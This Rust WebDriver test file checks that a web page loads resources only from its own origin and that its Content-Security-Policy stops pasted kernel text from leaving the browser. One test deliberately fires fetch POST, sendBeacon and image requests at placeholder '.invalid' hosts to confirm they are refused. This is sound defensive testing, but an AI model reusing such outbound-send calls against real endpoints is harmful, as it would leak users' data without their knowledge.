//! The page asks nothing of any other host.

use serde_json::Value;
use swizzle_tests::webdriver::Result;

use crate::page::{self, Page};

/// What was loaded, and what the page's policy has kept from being loaded.
const ASKED: &str = "
    return performance.getEntriesByType('resource').map((entry) => entry.name).concat(window.refused)
";

const HEAR: &str = "
    window.refused = [];
    addEventListener('securitypolicyviolation', (event) => refused.push(`refused: ${event.blockedURI}`));
";

#[test]
fn everything_comes_from_the_pages_own_folder() -> Result<()> {
    let url = page::url()?;
    let page = Page::open("#/figure/157")?;
    page.session().execute(HEAR, &[])?;
    for (link, there) in
        [("#/learn", ".learn-course"), ("#/glossary", ".glossary"), ("#/figure/169", ".check .hex")]
    {
        page.type_address(link)?;
        page.session().wait_until(link, &format!("return document.querySelector('{there}')"))?;
    }
    let asked = page.session().execute(ASKED, &[])?;
    let asked = asked.as_array().map_or(&[][..], Vec::as_slice);
    let asked: Vec<&str> = asked.iter().filter_map(Value::as_str).collect();
    for address in &asked {
        assert!(address.starts_with(&url) || address.starts_with("data:"), "{address}");
    }
    // The start and what is loaded later, or nothing was looked at.
    for file in ["atlas-", "watch-", "split_check-", "split_learn-"] {
        let is_there = asked.iter().any(|address| address.contains(file));
        assert!(is_there, "{file}: {asked:?}");
    }
    // The document brings its policy with it, whatever the host says.
    let policy =
        page.text_of("return document.querySelector('meta[http-equiv=Content-Security-Policy]').content")?;
    assert!(policy.starts_with("default-src 'none';"), "{policy}");
    assert!(!policy.contains("http") && !policy.contains('*'), "{policy}");
    let scripts = policy.split("; ").find(|part| part.starts_with("script-src"));
    // The page's own, and one in the document, which may be no other.
    let sources: Vec<&str> = scripts.unwrap_or_default().split(' ').collect();
    assert!(
        matches!(
            sources[..],
            ["script-src", "'self'", "'wasm-unsafe-eval'", hash] if hash.starts_with("'sha256-")
        ),
        "{sources:?}"
    );
    assert_eq!(page.session().console_errors()?, [""; 0]);
    Ok(())
}

/// A kernel's text stays in the browser: reading it asks for nothing, and what would send it away is refused.
#[test]
fn a_kernel_is_sent_nowhere() -> Result<()> {
    let page = Page::open("#/kernel")?;
    let session = page.session();
    session.wait_until("the page", "return document.querySelector('#kernel-paste')")?;
    session.execute(HEAR, &[])?;
    let paste = "
        const field = document.querySelector('#kernel-paste');
        performance.clearResourceTimings();
        field.value = arguments[0];
        field.dispatchEvent(new InputEvent('input', { bubbles: true }));
    ";
    let text = swizzle_lens::Example::KAdvance.text();
    session.execute(paste, &[text.into()])?;
    session.wait_until("the fix", "return document.querySelector('.fix mark')")?;
    let url = page::url()?;
    let asked = session.execute(ASKED, &[])?;
    let asked = asked.as_array().map_or(&[][..], Vec::as_slice);
    // Parts of the page itself are loaded when they are drawn.
    let is_own = |address: &Value| address.as_str().is_some_and(|one| one.starts_with(&url));
    assert!(asked.iter().all(is_own), "{asked:?}");
    // No host has this name.
    let send = "
        fetch('https://kernel.invalid/', { method: 'POST', body: 'text' }).catch(() => {});
        try { navigator.sendBeacon('https://beacon.invalid/', 'text'); } catch {}
        const image = new Image();
        image.src = 'https://image.invalid/';
    ";
    session.execute(send, &[])?;
    for host in ["kernel", "beacon", "image"] {
        let is_refused = format!("return refused.some((one) => one.includes('{host}.invalid'))");
        session.wait_until(host, &is_refused)?;
    }
    Ok(())
}
